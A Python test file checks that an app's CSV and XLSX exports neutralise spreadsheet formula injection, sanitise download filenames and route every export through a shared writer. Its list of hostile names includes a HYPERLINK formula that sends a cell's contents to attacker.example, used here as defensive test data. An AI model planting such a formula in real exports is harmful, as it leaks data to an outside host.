"""Exports are safe to open in a spreadsheet: no cell runs as a formula (OWASP).

Text that people typed (names of staff, teams, services) is neutralised with a
leading single quote when it starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
return. Numbers the app works out itself stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from core.exports import csv_text, neutralise, xlsx_bytes
from core.exports.csv import download_name
from core.extensions import db
from core.models import Allocation, AuditKind, AuditRule, CasePool, Frequency, Role
from core.programme import periods
from tests.factories import Borough, make_user

HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_text_that_could_start_a_formula_is_quoted(text: str):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Jo Bloggs", "O'Neil", "", " =1", "a=b", "café", 0, -3, 2.5, date(2026, 12, 1)]
)
def test_ordinary_text_and_the_apps_own_numbers_are_unchanged(value: object):
    assert neutralise(value) == value


def test_none_is_an_empty_cell():
    assert neutralise(None) == ""


def test_csv_text_neutralises_header_and_rows():
    rows = list(csv.reader(io.StringIO(csv_text(["=Name", "Count"], [["@x", -4]]))))
    assert rows == [["'=Name", "Count"], ["'@x", "-4"]]


def test_xlsx_cells_are_text_never_formulas():
    workbook = load_workbook(io.BytesIO(xlsx_bytes(["Name", "Count"], [["=1+2", 3]])))
    sheet = workbook.active
    assert sheet["A2"].value == "'=1+2" and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 3


@pytest.mark.parametrize(
    ("asked", "given"),
    [
        ("compliance-team-2026-11.csv", "compliance-team-2026-11.csv"),
        ("compliance-team-٢٠٢٦-١١.csv", "compliance-team.csv"),
        ('a"; b.csv', "a-b.csv"),
        (".csv", "export.csv"),
    ],
)
def test_download_names_are_plain_ascii(asked: str, given: str):
    assert download_name(asked, ".csv") == given


@pytest.fixture
def hostile_staff(borough: Borough) -> Borough:
    """Allocations this month to auditors, and a team, whose names are formulas."""
    this_month = periods.month_of(date.today())
    borough.north.name = HOSTILE_NAMES[0]
    rule = AuditRule(
        auditor_role=Role.TEAM_MANAGER,
        tool="children_audit",
        quantity=1,
        frequency=Frequency.MONTHLY,
        pool=CasePool.TEAM,
    )
    cases = ["cin", "cp", "closed"]
    for slot, name in enumerate(HOSTILE_NAMES[1:4]):
        auditor = make_user(f"manager_{slot}", Role.TEAM_MANAGER, team=borough.north)
        auditor.name = name
        db.session.add(
            Allocation(
                period=this_month.key,
                rule=rule,
                auditor=auditor,
                slot=slot,
                case=borough.cases[cases[slot]],
                tool="children_audit",
                kind=AuditKind.LINE_MANAGEMENT,
                due_date=this_month.end,
            )
        )
    db.session.commit()
    return borough


def test_the_compliance_csv_neutralises_names(client, auth, hostile_staff: Borough):
    auth.login("senior@test.example")
    by_team = client.get(f"/programme/compliance.csv?service={hostile_staff.cin.id}")
    assert by_team.status_code == 200
    rows = list(csv.reader(io.StringIO(by_team.get_data(as_text=True))))
    assert ["'" + HOSTILE_NAMES[0], "3", "0", "0", "3", "0", "0"] in rows

    by_auditor = client.get(f"/programme/compliance.csv?team={hostile_staff.north.id}")
    labels = [row[0] for row in csv.reader(io.StringIO(by_auditor.get_data(as_text=True)))]
    assert sorted(labels[1:]) == sorted("'" + name for name in HOSTILE_NAMES[1:4])


def test_a_period_with_non_latin_digits_is_refused_not_a_500(client, auth, borough: Borough):
    """It used to reach the Content-Disposition header and fail to encode."""
    auth.login("senior@test.example")
    response = client.get("/programme/compliance.csv?period=٢٠٢٦-١١")
    assert response.status_code == 200  # this month's figures, as for any unknown period
    this_month = periods.month_of(date.today()).key
    assert (
        f'filename="compliance-directorate-{this_month}.csv"'
        in response.headers["Content-Disposition"]
    )
    assert client.get("/programme/compliance?period=٢٠٢٦-١١").status_code == 400


def test_every_export_goes_through_the_shared_writer(project_root):
    """No view writes CSV or XLSX by hand: only core/exports does (and the generator
    of synthetic import files, which are test data, not exports)."""
    allowed = {"core/exports/csv.py", "core/exports/xlsx.py", "core/imports/synthetic.py"}
    by_hand = [
        str(path.relative_to(project_root))
        for folder in ("core", "plugins")
        for path in (project_root / folder).rglob("*.py")
        if str(path.relative_to(project_root)) not in allowed
        and any(
            marker in path.read_text(encoding="utf-8")
            for marker in ("csv.writer(", "csv.DictWriter(", "Workbook(")
        )
    ]
    assert by_hand == []
